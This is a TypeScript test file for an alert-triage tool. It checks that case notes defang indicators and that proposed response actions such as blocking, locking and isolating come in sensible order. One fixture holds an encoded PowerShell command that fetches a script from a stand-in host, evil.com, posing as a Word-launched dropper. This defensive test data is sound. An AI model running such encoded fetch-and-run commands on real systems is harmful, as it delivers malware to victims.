import { describe, expect, it } from 'vitest';
import { proposeActions } from '../../lib/action/propose.ts';
import { alertFromEvent } from '../../lib/events/alert.ts';
import { eventSource } from '../../lib/events/source.ts';
import { caseNote } from '../../lib/note/note.ts';
import { action } from '../../lib/schema/action.ts';
import { investigatedBy } from './investigated.ts';
import { idmef } from './signals/event-run.ts';

const investigated = async (event: object) => investigatedBy(eventSource, await alertFromEvent(event, 'An alert'));

const rootLogin = idmef({
  text: 'Remote Login',
  source: '93.184.216.34',
  user: 'root',
  log: 'srv7 sshd[8]: Accepted password for root from 93.184.216.34 port 5 ssh2',
});

describe('the note of an alert that is no mail', () => {
  it('says who, where and where from, defanged, and nothing of mail', async () => {
    const note = caseNote(await investigated(rootLogin), 'plain');
    expect(note).toMatch(/^SUSPICIOUS/);
    expect(note).toContain('Alert: “An alert” on srv7, account root, from 93.184.216[.]34');
    expect(note.replace(/same sender, source, link or file/, '')).not.toMatch(/mail|sender|recipient/i);
    expect(note.split('\n').length).toBeLessThanOrEqual(12);
  });

  it('defangs addresses and no file, program or path, by the field that names it', async () => {
    const event = {
      rule: { name: 'winword.exe started powershell.exe, which spoke to cdn.evil.com' },
      process: {
        executable: 'C:\\Users\\ana\\update.com',
        name: 'update.com',
        command_line: 'powershell.exe -enc JABhAD0AMQA7AGkAZQB4ACAAJABhAA== http://evil.com/a.ps1',
        parent: { name: 'winword.exe' },
      },
      host: { name: 'ws12.corp.example' },
      source: { ip: '93.184.216.34' },
    };
    const title = 'winword.exe started update.com, which spoke to cdn.evil.com and \\\\files.evil.com\\share';
    const state = await investigatedBy(eventSource, await alertFromEvent(event, title));
    const note = caseNote({ ...state, alert: { ...state.alert, title } }, 'plain');
    expect(note).toContain(
      'winword.exe started update.com, which spoke to cdn.evil[.]com and \\\\files.evil[.]com\\share',
    );
    expect(note).toContain('powershell.exe -enc');
    expect(note).toMatch(/Indicators: .*hxxp:\/\/evil\[\.\]com\/a\.ps1/);
    expect(note).toContain('C:\\Users\\ana\\update.com');
    expect(note).not.toMatch(/\[\.\](?:exe|ps1)|update\[/);
    expect(state.alert.observables).not.toContainEqual(
      expect.objectContaining({ type: 'domain', value: 'update.com' }),
    );
  });

  it('defangs a name that is a domain in another field', async () => {
    const event = { process: { name: 'update.com' }, dns: { question: 'update.com' }, message: 'x' };
    const state = await investigatedBy(eventSource, await alertFromEvent(event, 'update.com asked for update.com'));
    expect(caseNote(state, 'plain')).toContain('“update[.]com asked for update[.]com”');
  });
});

describe('actions for an alert that is no mail', () => {
  const verbs = async (event: object) =>
    proposeActions(await investigated(event)).map(({ verb, target }) => `${verb} ${target}`);

  it('look first, then what can be undone, then what weighs more', async () => {
    expect((await verbs(rootLogin)).slice(0, -1)).toEqual([
      'find_related 93.184.216.34',
      'collect_evidence srv7',
      'block_address 93.184.216.34',
      'end_sessions root',
      'lock_account root',
    ]);
  });

  it('never block an address inside, and cut a machine off only where something runs on it', async () => {
    const inside = await verbs(idmef({ text: 'Possible port scan', source: '10.0.0.7' }));
    expect(inside.join()).not.toContain('block_address');
    const left = await verbs({
      ThreatName: 'Trojan:Win32/Emotet.AK',
      DeviceName: 'ws12',
      action_taken: 'Left alone',
      message: 'Malware detected',
    });
    expect(left).toContain('isolate_host ws12');
    expect((await verbs(rootLogin)).join()).not.toContain('isolate_host');
  });

  it('name impact, undo and check, and are valid', async () => {
    const actions = proposeActions(await investigated(rootLogin));
    for (const one of actions) expect(action.safeParse(one).success, one.id).toBe(true);
    const lock = actions.find(({ verb }) => verb === 'lock_account');
    expect(lock).toMatchObject({ impact: 'high', undo: expect.any(String), check: expect.any(String) });
  });

  it('close what is benign and hand over what is not decided', async () => {
    expect(
      await verbs(
        idmef({ text: 'TCP packet dropped', completion: 'failed', log: 'kernel: Drop IN=eth0 OUT= PROTO=TCP' }),
      ),
    ).toEqual(['close_alert this alert']);
    expect(
      (await verbs({ message: 'something happened', source: { ip: '93.184.216.34' } })).map(
        (verb) => verb.split(' ')[0],
      ),
    ).toEqual(['find_related', 'escalate']);
  });
});
